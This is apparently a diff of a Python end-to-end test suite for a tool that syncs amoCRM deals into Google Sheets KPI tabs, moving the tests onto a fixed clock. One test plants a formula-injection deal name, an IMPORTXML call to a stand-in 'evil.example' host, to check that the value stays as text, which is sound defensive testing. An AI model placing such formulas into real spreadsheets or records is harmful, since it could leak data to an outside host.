@@ -31,9 +31,11 @@ from sheets_kpi.sources.amocrm import make_client
 from sheets_kpi.sources.amocrm.sync import sync
 from sheets_kpi.store.db import Store
 from sheets_kpi.store.frames import amocrm_frames
-from tests.conftest import ROOT, shipped_config
+from tests.conftest import NOW, ROOT, shipped_config
 
 BOOK = "e2e-book"
+#: Mid-month (2026-11-18 14:06 Moscow): the world's agency ends here and every cycle runs here.
+NOW_AT = datetime.fromtimestamp(NOW, UTC)
 PLAN_DEPENDENT = {"plan", "achievement", "contribution", "score", "rank", "bonus"}
 
 
@@ -49,9 +51,15 @@ class World:
     def gateway(self) -> SheetsGateway:
         return SheetsGateway(self.config.google)
 
+    now: datetime
+
     def cycle(self, now: datetime | None = None):
         return run_cycle(
-            self.config, self.store, make_client(self.config.amocrm), self.gateway(), now=now
+            self.config,
+            self.store,
+            make_client(self.config.amocrm),
+            self.gateway(),
+            now=now or self.now,
         )
 
     def worksheet(self, title: str):
@@ -70,7 +78,8 @@ class World:
 
 @pytest.fixture
 def world(tmp_path) -> Iterator[World]:
-    account = generate_agency(managers=8, months=2, seed=11)
+    account = generate_agency(managers=8, months=2, seed=11, now=NOW)
+    account.set_now(NOW)  # amoCRM's clock is the world's: edits are stamped at its instant
     amo_server = serve_amocrm(account, rps=1000)
     sheets = SheetsState(seed=3)
     sheets.create_spreadsheet("KPI", BOOK)
@@ -85,15 +94,15 @@ def world(tmp_path) -> Iterator[World]:
         }
     )
     store = Store(config.store)
-    sync(make_client(config.amocrm), store, config.amocrm)
+    sync(make_client(config.amocrm), store, config.amocrm, now=NOW)
     gateway = SheetsGateway(config.google)
     init_inputs(gateway, config, amocrm_frames(store)["users"])
-    period = datetime.now(UTC).strftime("%Y-%m")
+    period = NOW_AT.strftime("%Y-%m")
     plans = [[period, "", dept.id, kpi.id, 5] for dept in config.departments for kpi in dept.kpis]
     gateway.http.values_append(
         BOOK, "'Планы'!A1", params={"valueInputOption": "RAW"}, body={"values": plans}
     )
-    yield World(account, amo_server, sheets, sheets_server, config, store)
+    yield World(account, amo_server, sheets, sheets_server, config, store, NOW_AT)
     amo_server.stop()
     sheets_server.stop()
 
@@ -106,7 +115,7 @@ def engine_now(world: World, now: datetime):
 
 
 def test_a_cycle_writes_what_the_engine_computes(world: World) -> None:
-    now = datetime.now(UTC)
+    now = world.now
     report = world.cycle(now)
     assert report.status == "ok", report.error
     assert (report.sheets_read_requests, report.sheets_write_requests) == (2, 2)
@@ -159,7 +168,7 @@ def test_a_cycle_writes_what_the_engine_computes(world: World) -> None:
 
 
 def test_english_locale_titles_the_tabs_but_leaves_the_data_tabs_alone(world: World) -> None:
-    now = datetime.now(UTC)
+    now = world.now
     assert world.cycle(now).status == "ok"
     world.sheets.create_spreadsheet("KPI en", "en-book")
     google = world.config.google.model_copy(update={"spreadsheet": "en-book"})
@@ -183,7 +192,7 @@ def test_english_locale_titles_the_tabs_but_leaves_the_data_tabs_alone(world: Wo
 
 
 def test_a_second_cycle_without_changes_writes_only_the_run_log(world: World) -> None:
-    now = datetime.now(UTC)
+    now = world.now
     world.cycle(now)
     again = world.cycle(now)
     assert again.status == "ok"
@@ -193,7 +202,7 @@ def test_a_second_cycle_without_changes_writes_only_the_run_log(world: World) ->
 
 
 def test_an_edit_by_hand_in_an_output_tab_is_undone_by_the_nightly_cycle(world: World) -> None:
-    now = datetime.now(UTC)
+    now = world.now
     world.cycle(now)
     summary = world.worksheet("Итоги — Продажи")
     original = summary.get_values("B2", value_render_option="UNFORMATTED_VALUE")
@@ -209,7 +218,7 @@ def test_an_edit_by_hand_in_an_output_tab_is_undone_by_the_nightly_cycle(world: 
 
 
 def test_a_supervisors_plan_edit_changes_the_next_cycles_achievement(world: World) -> None:
-    now = datetime.now(UTC)
+    now = world.now
     world.cycle(now)
     kpi = world.data_kpi()
     target = kpi[(kpi["kpi"] == "sales_rub") & (kpi["fact"] > 0)].iloc[0]
@@ -224,7 +233,7 @@ def test_a_supervisors_plan_edit_changes_the_next_cycles_achievement(world: Worl
 
 
 def test_roster_changes_add_and_remove_manager_tabs(world: World) -> None:
-    now = datetime.now(UTC)
+    now = world.now
     world.cycle(now)
     roster = world.worksheet("Сотрудники")
     first = roster.get_values("A2:B2")[0]
@@ -239,7 +248,7 @@ def test_roster_changes_add_and_remove_manager_tabs(world: World) -> None:
 def test_a_tab_the_tool_did_not_create_is_left_alone_and_reported(world: World) -> None:
     book = world.gateway().client.open_by_key(BOOK)
     book.add_worksheet("Матрица", rows=5, cols=3).update([["заметки руководителя"]], "A1")
-    report = world.cycle(datetime.now(UTC))
+    report = world.cycle()
     assert report.status == "ok", report.error
     assert world.tab("Матрица") == [["заметки руководителя"]]
     issues = world.tab("Проблемы данных")
@@ -251,12 +260,12 @@ def test_a_personal_spreadsheet_gets_the_managers_tab(world: World) -> None:
     roster = world.worksheet("Сотрудники")
     name = roster.get_values("B2")[0][0]
     roster.update([[f"https://docs.google.com/spreadsheets/d/{BOOK}/edit"]], "F2")  # the main one
-    assert world.cycle(datetime.now(UTC)).status == "ok"
+    assert world.cycle().status == "ok"
     titles = [s.title for s in world.sheets.get(BOOK).sheets]
     assert name in titles and "data_kpi" in titles and "Журнал" in titles
 
     roster.update([["https://docs.google.com/spreadsheets/d/own-book/edit#gid=0"]], "F2")
-    report = world.cycle(datetime.now(UTC))
+    report = world.cycle()
     assert report.status == "ok", report.error
     assert name in [s.title for s in world.sheets.get("own-book").sheets]
     assert name not in [s.title for s in world.sheets.get(BOOK).sheets]
@@ -265,17 +274,17 @@ def test_a_personal_spreadsheet_gets_the_managers_tab(world: World) -> None:
     other = world.gateway().client.open_by_key("other-book")
     other.add_worksheet(name, rows=5, cols=3)  # same title, not created by sheets-kpi
     roster.update([["other-book"]], "F2")
-    assert world.cycle(datetime.now(UTC)).status == "ok"
+    assert world.cycle().status == "ok"
     assert any(row[2] == f"{name} (other-book)" for row in world.tab("Проблемы данных")[1:])
 
     roster.update([["no-such-book"]], "F2")  # a typo: that write fails, the rest is written
-    report = world.cycle(datetime.now(UTC))
+    report = world.cycle()
     assert report.status == "failed" and "personal spreadsheet no-such-book" in report.error
     assert world.tab("Журнал")[-1][6] == "failed"
 
 
 def test_a_formula_in_a_deal_name_stays_text(world: World) -> None:
-    now = datetime.now(UTC)
+    now = world.now
     world.cycle(now)
     violations = amocrm_frames(world.store)["deal_violations"]
     leads = world.account.entities["leads"]
@@ -284,7 +293,7 @@ def test_a_formula_in_a_deal_name_stays_text(world: World) -> None:
         int(v) for v in violations["lead_id"] if leads[int(v)]["responsible_user_id"] in roster_ids
     )
     leads[lead_id]["name"] = '=IMPORTXML("http://evil.example/x", "//a")'
-    leads[lead_id]["updated_at"] = int(time.time())
+    leads[lead_id]["updated_at"] = NOW
     world.account._changed()
     assert world.cycle(now).status == "ok"
     found = [
@@ -311,7 +320,9 @@ def test_an_expired_token_fails_the_cycle_clearly_but_still_writes_from_the_stor
             )
         }
     )
-    report = run_cycle(config, world.store, make_client(config.amocrm), world.gateway())
+    report = run_cycle(
+        config, world.store, make_client(config.amocrm), world.gateway(), now=world.now
+    )
     assert report.status == "failed"
     assert "Keys and scopes" in (report.error or "")
     assert "data_kpi" in [s.title for s in world.sheets.get(BOOK).sheets]
@@ -325,7 +336,7 @@ def test_a_stop_request_ends_the_cycle_as_stopped_and_an_interrupt_as_failed(
     stop = threading.Event()
     stop.set()
     amo = make_client(world.config.amocrm)
-    report = run_cycle(world.config, world.store, amo, world.gateway(), stop=stop)
+    report = run_cycle(world.config, world.store, amo, world.gateway(), world.now, stop=stop)
     assert report.status == "stopped" and "stopped on request" in (report.error or "")
     assert world.tab("Журнал")[-1][6] == "stopped"
 
@@ -334,7 +345,7 @@ def test_a_stop_request_ends_the_cycle_as_stopped_and_an_interrupt_as_failed(
 
     monkeypatch.setattr(SheetsGateway, "read_inputs", interrupted)
     with pytest.raises(KeyboardInterrupt):
-        run_cycle(world.config, world.store, amo, world.gateway())
+        run_cycle(world.config, world.store, amo, world.gateway(), world.now)
     last = world.store.runs()[0]
     assert last["status"] == "failed" and "KeyboardInterrupt" in last["error"]
 
